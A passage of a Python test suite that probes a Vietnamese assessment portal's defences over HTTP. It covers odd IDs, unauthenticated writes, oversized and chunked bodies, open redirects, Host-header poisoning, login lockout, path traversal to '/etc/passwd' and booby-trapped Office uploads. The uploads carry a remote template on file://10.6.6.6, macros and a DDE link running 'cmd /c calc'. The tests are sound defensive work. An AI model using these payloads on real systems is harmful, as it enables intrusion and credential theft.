"""The portal attacked as an attacker would, over HTTP against the session's real server: odd identifiers,
every route for the public, oversized bodies, words put in the portal's mouth by a link, shared caches,
numbers that are not numbers, hidden characters, an old password's sessions. Each test names its guard."""

from __future__ import annotations

import re

import httpx
import pytest
from sqlalchemy import func, select

from portal_fixtures import PASSWORD, csrf_of, server, signed_in  # noqa: F401 (fixture)
from store import models


def _round(engine) -> int:
    with engine.connect() as conn:
        return conn.execute(select(models.AssessmentRound.id).where(models.AssessmentRound.state == "mo")).scalar()


def _audit_count(engine) -> int:
    with engine.connect() as conn:
        return conn.execute(select(func.count(models.AuditEntry.id))).scalar()


ODD_IDS = ["²", "١", "99999999999999999999999", "9223372036854775808", "-1", "0", "1e3", "%20", "1.0"]


def test_odd_identifiers_are_not_found_never_a_server_error(server):
    """Guard: office.rounds.as_id (ASCII digits within the database's integer range), used by get_round,
    public._published / ranking, assessment.evidence_file and appraisal.answer_feedback."""
    base, engine, _ = server
    public = httpx.Client(base_url=base, follow_redirects=False)
    unit, token = signed_in(base, "donvi.skhcn")
    for odd in ODD_IDS:
        assert public.get(f"/cong-khai/{odd}").status_code == 404, odd
        assert public.get(f"/cong-khai/{odd}/SKHCN").status_code == 404, odd
        assert unit.get(f"/tu-danh-gia/{odd}").status_code == 404, odd
        assert unit.get(f"/tai-lieu/{odd}").status_code == 404, odd
        assert unit.post(f"/bo-sung/{odd}", data={"csrf": token, "answer": "x"}).status_code == 404, odd
        assert unit.post(f"/tu-danh-gia/{odd}/luu", data={"csrf": token}).status_code == 404, odd


def _post_routes() -> list[str]:
    """Every POST route of the portal (path templates)."""
    from web import routes_account, routes_notices, routes_office, routes_public, routes_unit

    return [route.path for module in (routes_account, routes_public, routes_unit, routes_office, routes_notices)
            for route in module.router.routes if "POST" in getattr(route, "methods", ())]


def test_the_public_reaches_no_route_that_writes(server):
    """Guards: web.app.actor_of and office.accounts.require on every route that writes (the public is sent
    to the sign-in page), checked for every POST route the portal has; the audit log shows nothing written."""
    base, engine, _ = server
    rid = _round(engine)
    public = httpx.Client(base_url=base, follow_redirects=False)
    token = csrf_of(public.get("/dang-nhap").text)
    before = _audit_count(engine)
    paths = _post_routes()
    assert len(paths) >= 15
    for path in paths:
        if path in ("/dang-nhap", "/dang-xuat"):
            continue
        url = re.sub(r"\{round_id\}", str(rid), path)
        url = re.sub(r"\{unit\}", "SKHCN", url)
        url = re.sub(r"\{[a-z_]+\}", "1", url)
        r = public.post(url, data={"csrf": token, "username": "quantri", "criterion": "1.1.2", "points": "0",
                                   "reason": "x", "answer": "x", "ruleset": "chi-so-cchc-so-nganh"},
                        files={"file": ("a.pdf", b"%PDF-1.4 x", "application/pdf")} if "nhap" in url or
                        "tai-lieu" in url else None)
        assert r.status_code == 303 and r.headers["location"].startswith("/dang-nhap"), (url, r.status_code)
    assert _audit_count(engine) == before


def test_methods_other_than_the_routes_own_are_refused(server):
    """Guard: each route's own method (FastAPI answers 405 to the others); nothing is written by a GET."""
    base, engine, _ = server
    rid = _round(engine)
    admin, token = signed_in(base, "quantri")
    before = _audit_count(engine)
    for method, url in (("GET", f"/quan-tri/dot/{rid}/cong-bo"), ("GET", "/dang-xuat"), ("PUT", "/doi-mat-khau"),
                        ("DELETE", f"/tu-danh-gia/{rid}/luu"), ("PATCH", "/quan-tri/tai-khoan")):
        r = admin.request(method, url, headers={"x-csrf-token": token}, content=b"{}" if method != "GET" else None)
        assert r.status_code == 405, (method, url)
    assert _audit_count(engine) == before


def test_an_oversized_body_is_refused_before_it_is_read(server):
    """Guard: the body bound in web.app's middleware (Content-Length checked before any form is parsed,
    for anyone, signed in or not)."""
    base, engine, data_dir = server
    public = httpx.Client(base_url=base, follow_redirects=False, timeout=60)
    huge = b"a=" + b"x" * (4 * 1024 * 1024)
    r = public.post("/dang-nhap", content=huge, headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 413 and "quá lớn" in r.text
    unit, token = signed_in(base, "donvi.stc")
    r = unit.post(f"/tu-danh-gia/{_round(engine)}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
                  files={"file": ("lon.pdf", b"%PDF-" + b"0" * (4 * 1024 * 1024), "application/pdf")})
    assert r.status_code == 413

    def chunks():
        yield b"csrf=" + token.encode()

    r = unit.post(f"/tu-danh-gia/{_round(engine)}/luu", content=chunks(),
                  headers={"content-type": "application/x-www-form-urlencoded"})
    assert r.status_code == 411  # no length announced: not read at all


def test_a_chunked_body_behind_a_small_length_is_refused_before_it_is_read(server):
    """Guard: web.app's middleware refuses Transfer-Encoding. The server reads a chunked body whatever
    Content-Length says, so «Content-Length: 10» with 5 MB of chunks behind it passed the bound on the length and
    was read whole — by anyone, for any address, of any size."""
    import socket

    base, _, _ = server
    public = httpx.Client(base_url=base, follow_redirects=False, timeout=60)
    token = csrf_of(public.get("/dang-nhap").text)
    cookie = "; ".join(f"{k}={v}" for k, v in public.cookies.items())
    body = f"csrf={token}&username=a&password=".encode() + b"x" * (5 * 1024 * 1024)
    head = (f"POST /dang-nhap HTTP/1.1\r\nHost: 127.0.0.1\r\nCookie: {cookie}\r\n"
            "Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 10\r\n"
            "Transfer-Encoding: chunked\r\nConnection: close\r\n\r\n").encode()
    host, port = base.removeprefix("http://").split(":")
    answer = b""
    with socket.create_connection((host, int(port)), timeout=60) as conn:
        try:
            conn.sendall(head)
            for at in range(0, len(body), 1 << 20):
                block = body[at:at + (1 << 20)]
                conn.sendall(b"%x\r\n" % len(block) + block + b"\r\n")
            conn.sendall(b"0\r\n\r\n")
        except (ConnectionResetError, BrokenPipeError):  # refused before the body was sent
            pass
        try:
            while data := conn.recv(65536):
                answer += data
        except ConnectionResetError:
            pass
    assert answer.split(b"\r\n", 1)[0].split()[1] == b"411", answer[:300]


def test_a_link_cannot_put_words_in_the_portals_mouth(server):
    """Guard: web.app.back sends its notice in a short-lived cookie the site sets, and page() reads only
    that (a ``?tb=`` in a link shows nothing)."""
    base, engine, _ = server
    unit, token = signed_in(base, "donvi.sxd")
    lure = "Hệ thống bảo trì: hãy gửi mật khẩu tới hotro@gia-mao.example"
    page = unit.get("/tu-danh-gia", params={"tb": lure})
    assert page.status_code == 200 and "gia-mao.example" not in page.text
    r = unit.post(f"/tu-danh-gia/{_round(engine)}/luu", data={"csrf": token, "giai_trinh__1.1.2": "ổn"})
    assert r.status_code == 303 and "?" not in r.headers["location"]
    shown = unit.get(r.headers["location"]).text
    assert "Đã lưu nháp." in shown
    assert "Đã lưu nháp." not in unit.get(r.headers["location"]).text  # once


def test_pages_with_someone_in_them_are_never_shared_by_a_cache(server):
    """Guard: web.app's middleware marks every response to a signed-in person (or one setting a cookie)
    ``private, no-store``, over the ranking route's public caching."""
    base, engine, _ = server
    rid = _round(engine)
    admin, token = signed_in(base, "quantri")
    with engine.connect() as conn:
        run = conn.execute(select(models.AssessmentRound.run_id).where(models.AssessmentRound.run_id.is_not(None))
                           ).scalar()
    if run is None:  # publish a round of its own (another rule set) for this check
        r = admin.post("/quan-tri/dot", data={"csrf": token, "ruleset": "qd766-2022", "period": "Năm 2024",
                                              "deadline": "31/12/2099"})
        assert r.status_code == 303, r.text[:300]
        with engine.connect() as conn:
            other = conn.execute(select(func.max(models.AssessmentRound.id))).scalar()
        assert admin.post(f"/quan-tri/dot/{other}/cong-bo", data={"csrf": token}).status_code == 303
        with engine.connect() as conn:
            run = conn.execute(select(models.AssessmentRound.run_id).where(models.AssessmentRound.id == other)
                               ).scalar()
    page = admin.get(f"/cong-khai/{run}")
    assert page.status_code == 200 and token in page.text  # the admin's token is on the page (sign-out form)
    assert page.headers["cache-control"] == "private, no-store"
    first = httpx.get(f"{base}/cong-khai/{run}")  # a new visitor gets a cookie: not for a shared cache either
    assert "set-cookie" in first.headers and first.headers["cache-control"] == "private, no-store"
    reader = httpx.Client(base_url=base, cookies=first.cookies)
    again = reader.get(f"/cong-khai/{run}")
    assert "set-cookie" not in again.headers and again.headers["cache-control"] == "public, max-age=300"
    assert rid


@pytest.mark.parametrize("typed", ["1e308", "nan", "inf", "-infinity", "1_000", "１２３", "٣", "0x10", "1,2,3",
                                   "9.999.999.999.999", "12" * 30])
def test_numbers_that_are_not_figures_are_refused_and_nothing_written(server, typed):
    """Guard: office.assessment.parse_number (ASCII digits in Vietnamese or plain notation, at most a
    trillion) and check_figures (no negative count)."""
    base, engine, _ = server
    rid = _round(engine)
    unit, token = signed_in(base, "donvi.skhcn")
    before = _audit_count(engine)
    r = unit.post(f"/tu-danh-gia/{rid}/luu", data={"csrf": token, "so_lieu__tthc_tong": typed})
    assert r.status_code == 400 and "Tổng số TTHC" in r.text, typed
    assert _audit_count(engine) == before
    with engine.connect() as conn:
        assert not conn.execute(select(models.DraftFigure.id).join(
            models.SelfAssessment, models.SelfAssessment.id == models.DraftFigure.assessment_id).join(
            models.Unit, models.Unit.id == models.SelfAssessment.unit_id).where(
            models.Unit.code == "SKHCN", models.DraftFigure.indicator_code == "tthc_tong")).all()


def test_a_negative_figure_is_refused(server):
    """Guard: office.assessment.check_figures's refusal of a value under zero (on a figure that is no part
    and no whole of another, so nothing else catches it)."""
    base, engine, _ = server
    unit, token = signed_in(base, "donvi.skhcn")
    before = _audit_count(engine)
    r = unit.post(f"/tu-danh-gia/{_round(engine)}/luu", data={"csrf": token, "so_lieu__sipas": "-5"})
    assert r.status_code == 400 and "giá trị âm" in r.text and "SIPAS" in r.text
    assert _audit_count(engine) == before


def test_thousands_separators_and_a_part_above_its_whole(server):
    """Guards: parse_number reads «1.234» as a thousand and more; check_figures refuses a part above its
    whole, naming both."""
    base, engine, _ = server
    rid = _round(engine)
    unit, token = signed_in(base, "donvi.sgddt")
    r = unit.post(f"/tu-danh-gia/{rid}/luu", data={"csrf": token, "so_lieu__van_ban_di": "1.234",
                                                  "so_lieu__van_ban_ky_so": "1.100", "so_lieu__van_ban_mat": "0"})
    assert r.status_code == 303
    r = unit.post(f"/tu-danh-gia/{rid}/luu", data={"csrf": token, "so_lieu__van_ban_ky_so": "1.235"})
    assert r.status_code == 400 and "lớn hơn" in r.text and "1.234" in r.text


@pytest.mark.parametrize("name", ["Nguyễn\u202eAn", "Trần\x07Bình", "x" * 201])
def test_names_with_hidden_characters_or_too_long_are_refused(server, name):
    """Guard: office.accounts.clean_text in create_account (no control or direction-changing characters,
    at most 200 characters)."""
    base, engine, _ = server
    admin, token = signed_in(base, "quantri")
    before = _audit_count(engine)
    r = admin.post("/quan-tri/tai-khoan", data={"csrf": token, "username": "an.toan", "full_name": name,
                                                "role": "hoi_dong"})
    assert r.status_code == 400 and "họ và tên" in r.text
    assert _audit_count(engine) == before


def test_very_long_answers_and_reasons_are_refused(server):
    """Guard: clean_text's limits in office.appraisal (reason 2.000, request 2.000, answer 10.000 characters)."""
    base, engine, _ = server
    rid = _round(engine)
    unit, token = signed_in(base, "donvi.sxd")
    r = unit.post(f"/tu-danh-gia/{rid}/luu", data={"csrf": token, "so_lieu__van_ban_di": "2.500",
                                                  "hanh_dong": "nop"})
    assert r.status_code == 303
    judge, judge_token = signed_in(base, "thamdinh")
    r = judge.post(f"/tham-dinh/{rid}/SXD/diem", data={"csrf": judge_token, "criterion": "1.1.2", "points": "1",
                                                       "reason": "x" * 2_001})
    assert r.status_code == 400 and "quá dài" in r.text
    r = judge.post(f"/tham-dinh/{rid}/SXD/yeu-cau", data={"csrf": judge_token, "criterion": "1.7.1",
                                                          "request_text": "Bổ sung sổ", "deadline": "31/12/2099"})
    assert r.status_code == 303
    with engine.connect() as conn:
        ask = conn.execute(select(func.max(models.FeedbackRequest.id))).scalar()
    r = unit.post(f"/bo-sung/{ask}", data={"csrf": token, "answer": "y" * 10_001})
    assert r.status_code == 400 and "quá dài" in r.text
    with engine.connect() as conn:
        assert conn.execute(select(models.FeedbackRequest.answer).where(models.FeedbackRequest.id == ask)
                            ).scalar() == ""


def test_a_new_password_ends_the_other_sessions(server):
    """Guard: office.accounts.change_password deletes the account's other sessions (keep_session is the
    one changing it)."""
    base, engine, _ = server
    from office import accounts
    accounts.create_account(engine, accounts.SYSTEM, "doi.mk", "Người đổi mật khẩu", "hoi_dong",
                            password=PASSWORD)
    stolen, _ = signed_in(base, "doi.mk")  # someone else who knew the old password
    mine, _ = signed_in(base, "doi.mk")
    token = csrf_of(mine.get("/doi-mat-khau").text)  # a first sign-in: the password page comes first
    new = "mat-khau-rieng-99"
    r = mine.post("/doi-mat-khau", data={"csrf": token, "old_password": PASSWORD, "new_password": new,
                                         "repeat": new})
    assert r.status_code == 303
    assert mine.get("/huong-dan").text.count("Đăng xuất") == 1  # still signed in, and free to go on
    r = stolen.get("/doi-mat-khau")
    assert r.status_code == 303 and r.headers["location"].startswith("/dang-nhap")


def test_cookies_are_httponly_samesite_and_the_next_address_stays_here(server):
    """Guards: web.security.Cookies.set (HttpOnly, SameSite=Lax, Path=/) and routes_account._safe_next
    (only a path of this site after sign-in; no //host, no backslash, no scheme)."""
    base, engine, _ = server
    for target in ("//gia-mao.example/x", "/\\gia-mao.example", "https://gia-mao.example", "/\t/gia-mao.example",
                   "javascript:alert(1)"):
        client = httpx.Client(base_url=base, follow_redirects=False)
        token = csrf_of(client.get("/dang-nhap").text)
        r = client.post("/dang-nhap", data={"username": "thamdinh.stp", "password": PASSWORD, "csrf": token,
                                            "tiep": target})
        assert r.status_code == 303
        assert "gia-mao" not in r.headers["location"].replace("%09", "") or r.headers["location"].startswith("/%09")
        assert not r.headers["location"].startswith(("//", "/\\", "http", "javascript"))
        cookie = next(c for c in r.headers.get_list("set-cookie") if c.startswith("cchc_phien="))
        assert "HttpOnly" in cookie and "SameSite=lax" in cookie and "Path=/" in cookie


def _refusal(page: str) -> str:
    found = re.search(r'class="error"[^>]*>([^<]*)<', page)
    return found.group(1) if found else ""


def test_a_lock_tells_no_name_that_exists_from_one_that_does_not(server):
    """Guard: office.accounts.login locks a name no account has as it locks an account (``_name_key``'s throttle
    row, counted by ``_failed``). Without it the sixth wrong password answered «tạm khóa» for a real account only
    (and at once, with no password checked), so five tries told which names exist."""
    base, engine, _ = server
    from office import accounts
    accounts.create_account(engine, accounts.SYSTEM, "co.that", "Người có thật", "hoi_dong", password=PASSWORD)
    answers = {}
    for name in ("co.that", "khong.co.that"):
        client = httpx.Client(base_url=base, follow_redirects=False, timeout=30)
        token = csrf_of(client.get("/dang-nhap").text)
        answers[name] = [_refusal(client.post("/dang-nhap", data={"username": name, "password": "doan-sai-123",
                                                                   "csrf": token}).text) for _ in range(6)]
    assert answers["co.that"] == answers["khong.co.that"]
    assert "tạm khóa" in answers["khong.co.that"][-1]


def test_the_current_password_cannot_be_guessed_from_an_open_session(server):
    """Guard: office.accounts.change_password counts a wrong current password against the account (``_one_more``)
    and refuses while it is locked. Without it a session left open let anyone try passwords without end."""
    base, engine, _ = server
    from office import accounts
    accounts.create_account(engine, accounts.SYSTEM, "bo.quen", "Người bỏ quên máy", "hoi_dong", password=PASSWORD)
    left_open, _ = signed_in(base, "bo.quen")
    token = csrf_of(left_open.get("/doi-mat-khau").text)
    new = "mat-khau-ke-gian-1"
    for i in range(5):
        r = left_open.post("/doi-mat-khau", data={"csrf": token, "old_password": f"doan-{i}-sai",
                                                  "new_password": new, "repeat": new})
        assert r.status_code == 400
    r = left_open.post("/doi-mat-khau", data={"csrf": token, "old_password": PASSWORD, "new_password": new,
                                              "repeat": new})
    assert r.status_code == 400 and "tạm khóa" in _refusal(r.text)  # the right one waits too


def test_only_the_office_makes_the_portal_read_a_list_of_accounts(server):
    """Guard: office.accounts.read_list requires the office before it reads the spreadsheet. It was read first
    (seconds of work and memory for any signed-in person, a zip bomb's too), then refused: an unreadable file
    answered 400 «không đọc được», not 403."""
    base, _, _ = server
    unit, token = signed_in(base, "donvi.sct")
    r = unit.post("/quan-tri/tai-khoan/nhap", data={"csrf": token},
                  files={"file": ("ds.xlsx", b"PK\x03\x04 not a workbook", "application/octet-stream")})
    assert r.status_code == 403


def test_a_campaign_named_by_a_path_opens_no_file_of_the_server(server):
    """Guard: office.emulation.campaign opens only a YAML file or a shipped campaign's code, and turns a file that
    is no campaign into a refusal. The council's form handed its «campaign» to a loader that opens any existing
    path: «/etc/passwd», the portal's own cookie key or a folder ended in a server error (500)."""
    base, _, data_dir = server
    admin, token = signed_in(base, "quantri")
    for path in ("/etc/passwd", "../" * 12 + "etc/passwd", str(data_dir / "khoa-phien.txt"), str(data_dir), "/",
                 "x" * 5000, "a\0b"):
        r = admin.post("/hoi-dong/phien", data={"csrf": token, "campaign": path, "members": "hoidong",
                                                "meeting_on": "01/12/2099", "closes_at": "02/12/2099 10:00"})
        assert r.status_code in (400, 404), (path[:40], r.status_code)


def test_a_trailing_slash_redirect_names_no_host(server):
    """Guard: web.app.local_redirect in the province's own middleware. Served at the root of its address (one
    province, ``cchc serve``), Starlette's redirect for a trailing slash wrote the Host the client sent:
    «Host: evil.example» made «Location: http://evil.example/tu-danh-gia», for a cache in between to keep."""
    import socket

    address, port = server[0].removeprefix("http://").split(":")
    for path in ("/tu-danh-gia/", "/cong-khai/", "/huong-dan/?x=1"):
        with socket.create_connection((address, int(port)), timeout=30) as sock:
            sock.sendall(f"GET {path} HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n".encode())
            data = b""
            while chunk := sock.recv(65536):
                data += chunk
        head = data.decode("utf-8", "replace").partition("\r\n\r\n")[0]
        location = re.search(r"(?im)^location: (.*)$", head).group(1).strip()
        assert location.startswith("/") and not location.startswith("//") and "evil" not in location, location


RELS = (b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'%s</Relationships>')
DOCX_TYPES = (b'<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.'
              b'main+xml"/></Types>')


def _office_file(entries: dict[str, bytes], types: bytes = DOCX_TYPES) -> bytes:
    from helpers import office_zip

    return office_zip(entries, types)


def test_evidence_that_runs_or_fetches_something_when_opened_is_refused(server):
    """Guard: office.evidence._inert, called by ``_office``. A unit's DOCX whose settings name a template on
    another server (Word fetches it when the appraiser opens the file: the reader's Windows credentials go along,
    and the template's macros may come back), one carrying macros under a .docx name, a workbook linking to other
    files or a DDE server, and one whose relationship hides «External» behind a character reference were all
    taken as evidence; a hyperlink, which only a click follows, is still taken."""
    base, engine, data_dir = server
    rid = _round(engine)
    a, token = signed_in(base, "donvi.sgddt")
    template = (b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                b'attachedTemplate" Target="file://10.6.6.6/chia-se/mau.dotm" TargetMode="%s"/>')
    xlsx_types = DOCX_TYPES.replace(b"wordprocessingml.document", b"spreadsheetml.sheet")
    cases = {
        "remote template": _office_file({"word/document.xml": b"<w:document/>",
                                         "word/_rels/settings.xml.rels": RELS % (template % b"External")}),
        "entity-hidden": _office_file({"word/document.xml": b"<w:document/>",
                                       "word/_rels/settings.xml.rels": RELS % (template % b"&#69;xternal")}),
        "macros": _office_file({"word/document.xml": b"<w:document/>", "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" * 64}),
        "activex": _office_file({"word/document.xml": b"<w:document/>", "word/activeX/activeX1.xml": b"<ax/>"}),
        "dde link": _office_file({"xl/workbook.xml": b"<workbook/>", "xl/externalLinks/externalLink1.xml":
                                  b'<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'},
                                 xlsx_types),
        "broken rels": _office_file({"word/document.xml": b"<w:document/>", "_rels/.rels": b"<Relationships"}),
    }
    before = _files_count(engine)
    for what, data in cases.items():
        r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
                   files={"file": (f"{what}.docx", data, "application/octet-stream")})
        assert r.status_code == 400, what
        assert ("hỏng" in r.text) == (what == "broken rels"), what  # each refused for what it is
    assert _files_count(engine) == before
    link = (b'<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'hyperlink" Target="https://dichvucong.gov.vn/" TargetMode="External"/>')
    good = _office_file({"word/document.xml": b"<w:document/>", "word/_rels/document.xml.rels": RELS % link})
    r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
               files={"file": ("co-lien-ket.docx", good, "application/octet-stream")})
    assert r.status_code == 303 and _files_count(engine) == before + 1


def _files_count(engine) -> int:
    with engine.connect() as conn:
        return conn.execute(select(func.count(models.EvidenceFile.id))).scalar()


def test_a_planted_notice_cookie_puts_no_words_in_the_portals_mouth(server):
    """Guard: web.app.back signs the notice cookie and page() reads only a notice this portal signed. It was read
    as sent: a cookie planted by a neighbouring site of the same domain (or over plain http) showed its words on
    the sign-in page as the portal's own notice."""
    from urllib.parse import quote

    base, _, _ = server
    lure = "Cổng chuyển sang http://cong-cchc.gia-mao.example: hãy đăng nhập lại ở đó"
    public = httpx.Client(base_url=base, follow_redirects=False)
    page = public.get("/dang-nhap", headers={"cookie": f"cchc_tb={quote(lure)}"})
    assert page.status_code == 200 and "gia-mao.example" not in page.text
    unit, token = signed_in(base, "donvi.sxd")
    page = unit.get("/tu-danh-gia", headers={"cookie": f"cchc_tb={quote(lure)}; " + "; ".join(
        f"{k}={v}" for k, v in unit.cookies.items())})
    assert page.status_code == 200 and "gia-mao.example" not in page.text


def test_an_office_file_whose_parts_do_not_read_is_refused_never_a_server_error(server):
    """Guard: office.evidence._office turns a part that does not read (its checksum wrong, its compressed bytes
    broken, encrypted) into a refusal. It was a server error (500) for anyone who could upload evidence."""
    import io
    import zipfile

    base, engine, _ = server
    rid = _round(engine)
    a, token = signed_in(base, "donvi.sgddt")
    stored = io.BytesIO()
    with zipfile.ZipFile(stored, "w", zipfile.ZIP_STORED) as z:
        z.writestr("[Content_Types].xml", DOCX_TYPES)
        z.writestr("word/document.xml", b"<w:document/>")
    data = bytearray(stored.getvalue())
    crc = data[:]
    crc[crc.find(b"<Types>") + 1] ^= 0x20  # the bytes no longer match their checksum
    packed = bytearray(_office_file({"word/document.xml": b"<w:document/>"}))
    packed[40] ^= 0xFF  # the first part's compressed bytes broken
    before = _files_count(engine)
    for what, body in (("checksum", crc), ("compressed", packed)):
        r = a.post(f"/tu-danh-gia/{rid}/tai-lieu", data={"csrf": token, "criterion": "1.7.1"},
                   files={"file": (f"{what}.docx", bytes(body), "application/octet-stream")})
        assert r.status_code == 400, (what, r.status_code)
    assert _files_count(engine) == before


def test_publishing_a_round_without_figures_is_refused_never_a_server_error(server):
    """Guard: office.rounds.publish turns the scoring's «no figures at all» (cycle.scoring.NoFigures) into a
    refusal. A round of a period nobody had sent anything for answered «Công bố» with a server error (500)."""
    base, engine, _ = server
    admin, token = signed_in(base, "quantri")
    r = admin.post("/quan-tri/dot", data={"csrf": token, "ruleset": "chi-so-cchc-so-nganh", "period": "2031-NAM",
                                          "deadline": "31/12/2099", "title": "Đợt chưa có số liệu"})
    assert r.status_code == 303
    with engine.connect() as conn:
        rid = conn.execute(select(func.max(models.AssessmentRound.id))).scalar()
    before = _audit_count(engine)
    r = admin.post(f"/quan-tri/dot/{rid}/cong-bo", data={"csrf": token})
    assert r.status_code == 400 and "chưa công bố được" in r.text
    assert _audit_count(engine) == before
    assert admin.post(f"/quan-tri/dot/{rid}/khoa", data={"csrf": token}).status_code == 303  # out of the others' way


def test_a_withdrawal_and_finalisations_arriving_at_once_leave_one_outcome(server):
    """Guard: office.assessment._assessment(lock=True), taken by withdraw, finalise, request_feedback, appraise
    and answer_feedback before they read the form's state. Each read the state, then wrote: a withdrawal and two
    finalisations sent at once all succeeded — a finalised form back in the unit's hands («da_rut» with a
    finalisation time), finalised twice (two entries, two notices), points recorded after the end."""
    from concurrent.futures import ThreadPoolExecutor

    from portal_fixtures import UNITS, _create

    base, engine, _ = server
    rid = _round(engine)
    with engine.connect() as conn:
        codes = [c for c in conn.execute(select(models.Unit.code).where(models.Unit.kind == "so_nganh")
                                         .order_by(models.Unit.code)).scalars() if c not in UNITS][:6]
    assert len(codes) == 6
    first, _ = signed_in(base, "thamdinh")
    first_token = csrf_of(first.get("/huong-dan").text)
    other_name = "thamdinh.dua"
    _create(engine, other_name, "tham_dinh")
    second, second_token = signed_in(base, other_name)
    for code in codes:
        name = f"donvi.dua.{code.lower()}"
        _create(engine, name, "don_vi", code)
        unit, token = signed_in(base, name)
        assert unit.post(f"/tu-danh-gia/{rid}/luu", data={"csrf": token, "hanh_dong": "nop"}).status_code == 303
        steps = [lambda: unit.post(f"/tu-danh-gia/{rid}/rut", data={"csrf": token}),
                 lambda: first.post(f"/tham-dinh/{rid}/{code}/hoan-tat", data={"csrf": first_token}),
                 lambda: second.post(f"/tham-dinh/{rid}/{code}/hoan-tat", data={"csrf": second_token}),
                 lambda: second.post(f"/tham-dinh/{rid}/{code}/diem", data={"csrf": second_token, "criterion": "1.1.2",
                                                                            "points": "1", "reason": "cùng lúc"})]
        with ThreadPoolExecutor(len(steps)) as pool:
            done = [f.result().status_code for f in [pool.submit(step) for step in steps]]
        assert all(c in (303, 400) for c in done), (code, done)
        withdrew, finalised = done[0] == 303, done[1:3].count(303)
        with engine.connect() as conn:
            state = conn.execute(select(models.SelfAssessment.state).join(
                models.Unit, models.Unit.id == models.SelfAssessment.unit_id)
                .where(models.SelfAssessment.round_id == rid, models.Unit.code == code)).scalar()
        assert withdrew + finalised == 1, (code, done)
        assert state == ("da_rut" if withdrew else "da_tham_dinh"), (code, done, state)


def test_publishing_twice_at_once_records_and_notifies_once(server):
    """Guard: office.rounds.publish takes the round's row and reads it again before marking it published. «Công
    bố» sent twice at once (a double click) published the same run, but both requests recorded the publication
    and told every unit of the round twice."""
    from concurrent.futures import ThreadPoolExecutor

    base, engine, _ = server
    with engine.connect() as conn:
        demo = conn.execute(select(models.AssessmentRound.ruleset, models.AssessmentRound.period_code)
                            .where(models.AssessmentRound.id == _round(engine))).one()
        periods = sorted(conn.execute(select(models.Fact.period_code).distinct()).scalars())
    period = next(p for p in periods if p != demo.period_code and p.endswith("-6T"))
    admin, token = signed_in(base, "quantri")
    r = admin.post("/quan-tri/dot", data={"csrf": token, "ruleset": demo.ruleset, "period": period,
                                          "deadline": "31/12/2099", "title": "Công bố hai lần"})
    assert r.status_code == 303
    with engine.connect() as conn:
        rid = conn.execute(select(func.max(models.AssessmentRound.id))).scalar()
    with ThreadPoolExecutor(3) as pool:
        done = list(pool.map(lambda _: admin.post(f"/quan-tri/dot/{rid}/cong-bo", data={"csrf": token}).status_code,
                             range(3)))
    assert done.count(303) == 1 and done.count(400) == 2, done
    with engine.connect() as conn:
        recorded = conn.execute(select(func.count(models.AuditEntry.id)).where(
            models.AuditEntry.action == "cong_bo_dot", models.AuditEntry.object == f"đợt {rid}")).scalar()
    assert recorded == 1


def test_opening_a_round_twice_at_once_opens_it_once(server):
    """Guard: office.rounds.open_round takes the store's write lock (store.db.serialize_writes) before it looks
    for an open round of the same rule set and period. «Mở đợt» sent three times at once opened three rounds of one
    rule set and period — the refusal «đã có đợt đang mở» passed by — each telling every unit; on PostgreSQL a
    year not seen before ended the others in a server error (its periods written twice)."""
    from concurrent.futures import ThreadPoolExecutor

    base, engine, _ = server
    with engine.connect() as conn:
        ruleset = conn.execute(select(models.AssessmentRound.ruleset)
                               .where(models.AssessmentRound.id == _round(engine))).scalar()
    admin, token = signed_in(base, "quantri")
    form = {"csrf": token, "ruleset": ruleset, "period": "2028-NAM", "deadline": "31/12/2099", "title": "Mở ba lần"}
    with ThreadPoolExecutor(3) as pool:
        done = list(pool.map(lambda _: admin.post("/quan-tri/dot", data=form).status_code, range(3)))
    assert sorted(done) == [303, 400, 400], done
    with engine.connect() as conn:
        opened = conn.execute(select(models.AssessmentRound.id).where(
            models.AssessmentRound.ruleset == ruleset, models.AssessmentRound.period_code == "2028-NAM")).scalars().all()
    assert len(opened) == 1
    assert admin.post(f"/quan-tri/dot/{opened[0]}/khoa", data={"csrf": token}).status_code == 303


def test_the_same_account_made_twice_at_once_is_one_account_and_no_server_error(server):
    """Guard: web.app's handler of the store's IntegrityError (409, the page's words). The use case looks for the
    name, then writes it: two requests at once both pass the look, the database's unique name keeps the first,
    and the second was a server error (500) with its traceback."""
    from concurrent.futures import ThreadPoolExecutor

    base, engine, _ = server
    admin, token = signed_in(base, "quantri")
    form = {"csrf": token, "username": "bam.hai.lan", "full_name": "Bấm hai lần", "role": "hoi_dong"}
    with ThreadPoolExecutor(4) as pool:
        done = list(pool.map(lambda _: admin.post("/quan-tri/tai-khoan", data=form).status_code, range(4)))
    assert done.count(200) == 1 and set(done) <= {200, 400, 409}, done
    with engine.connect() as conn:
        assert conn.execute(select(func.count(models.Account.id))
                            .where(models.Account.username == "bam.hai.lan")).scalar() == 1


def test_evidence_whose_active_parts_are_renamed_is_refused_and_a_template_on_disk_is_not(server):
    """Guard: office.evidence._inert. Word and Excel find macros, controls and a workbook's links by the type the
    package declares, whatever the part is called: macros in «word/macros.bin», a DDE link in «xl/lien-ket.xml»,
    a macro-enabled document beside a decoy DOCX content type, a DDE field (which runs a program when the document
    opens) written over two runs had been taken. A document made from an office's
    template names it on the author's disk («file:///C:\\…\\Mẫu.dotx»: nothing fetched from another address) and
    had been refused with them; a template behind a network path still is."""
    base, engine, data_dir = server
    rid = _round(engine)
    a, token = signed_in(base, "donvi.sgddt")

    def rel(kind: str, target: str, mode: str = "") -> bytes:
        return RELS % (f'<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/{kind}" '
                       f'Target="{target}"{mode}/>').encode()

    def template(target: str) -> bytes:
        return _office_file({"word/document.xml": b"<w:document/>", "word/_rels/settings.xml.rels": RELS % (
